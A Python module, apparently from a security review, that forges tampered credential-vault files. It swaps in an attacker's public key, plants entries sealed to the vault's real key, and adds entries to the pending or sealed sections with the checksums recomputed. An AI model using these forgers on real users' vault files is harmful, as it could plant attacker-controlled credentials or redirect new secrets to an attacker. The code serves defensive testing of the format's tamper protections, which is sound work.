"""What an attacker who can write the vault file, but lacks its key, can make of it (security
review 2): valid files, built from Vault/FORMAT.md with PyNaCl alone — a swapped public key, an
entry sealed to the vault's real public key, an older copy. Works on version 1 and 2 files, so
the same attack runs against a vault that predates the fix."""
import hashlib
import os
import struct

import nacl.bindings as nb

MAGIC = b"\x89VLT\r\n\x1a\n"
PUBLIC_KEY = slice(36, 68)  # magic 8, version 2, backend 1, reserved 1, vault id 16, created 8


def checksummed(body: bytes) -> bytes:
    return body + hashlib.blake2b(body, digest_size=32).digest()


def version(data: bytes) -> int:
    return struct.unpack_from("<H", data, 8)[0]


def public_key(data: bytes) -> bytes:
    return data[PUBLIC_KEY]


def header_end(data: bytes) -> int:
    """Offset just past the header (the generation included in versions 2 and 3)."""
    if version(data) == 3:  # FORMAT.md §10.1: next_id, count, then id, kind, u16len(body) each
        offset = 68 + 2 + 1
        for _ in range(data[70]):
            offset += 3 + 2 + struct.unpack_from("<H", data, offset + 3)[0]
        return offset + 8
    keyblock = 1 + 4 + 8 + 16 + 24 + 48 if data[10] == 1 else 0
    return 68 + keyblock + (8 if version(data) == 2 else 0)


def _skip_entries(data: bytes, offset: int) -> tuple[int, int]:
    """(count, offset after the entries) for the count at `offset`."""
    count = struct.unpack_from("<I", data, offset)[0]
    offset += 4
    for _ in range(count):
        offset += 4 + struct.unpack_from("<I", data, offset)[0]
    return count, offset


def swap_public_key(data: bytes) -> tuple[bytes, bytes]:
    """The file with the attacker's public key in the header; (file, attacker's secret key)."""
    attacker_pk, attacker_sk = nb.crypto_box_keypair()
    body = data[:PUBLIC_KEY.start] + attacker_pk + data[PUBLIC_KEY.stop:-32]
    return checksummed(body), attacker_sk


def entry(vault_public_key: bytes, profile: str, access_key_id: str, secret: str, added: int = 1_700_000_000,
          metadata: bytes = b"\x02\x00\x00\x00") -> bytes:
    """A well-formed entry sealed to the vault's real public key (FORMAT.md §2, §5)."""
    entry_id = os.urandom(16)
    name = profile.encode()
    plaintext = (b"\x01" + entry_id + b"\x01" + bytes([len(name)]) + name
                 + bytes([len(access_key_id)]) + access_key_id.encode() + bytes([len(secret)]) + secret.encode())
    sealed = nb.crypto_box_seal(plaintext, vault_public_key)
    hint = (access_key_id[:4] + "…" + access_key_id[-4:]).encode()
    meta = metadata[2:]
    body = (entry_id + b"\x01" + struct.pack("<Q", added) + bytes([len(name)]) + name + bytes([len(hint)]) + hint
            + struct.pack("<H", len(meta)) + meta + struct.pack("<H", len(sealed)) + sealed)
    return struct.pack("<I", len(body)) + body


def inject(data: bytes, new_entry: bytes) -> bytes:
    """The file with `new_entry` appended where a writer without the key would put it: after the
    entries (version 1) or after the pending entries (version 2), checksum recomputed."""
    if version(data) == 1:
        count_at = header_end(data)
        count, _ = _skip_entries(data, count_at)
        body = data[:count_at] + struct.pack("<I", count + 1) + data[count_at + 4:-32] + new_entry
        return checksummed(body)
    _, after_sealed = _skip_entries(data, header_end(data))
    pending_at = after_sealed + 32
    count, _ = _skip_entries(data, pending_at)
    body = data[:pending_at] + struct.pack("<I", count + 1) + data[pending_at + 4:-32] + new_entry
    return checksummed(body)


def inject_into_sealed_part(data: bytes, new_entry: bytes) -> bytes:
    """Version 2: `new_entry` added to the sealed entries themselves (the seal left as it was)."""
    count_at = header_end(data)
    count, after = _skip_entries(data, count_at)
    body = data[:count_at] + struct.pack("<I", count + 1) + data[count_at + 4:after] + new_entry + data[after:-32]
    return checksummed(body)
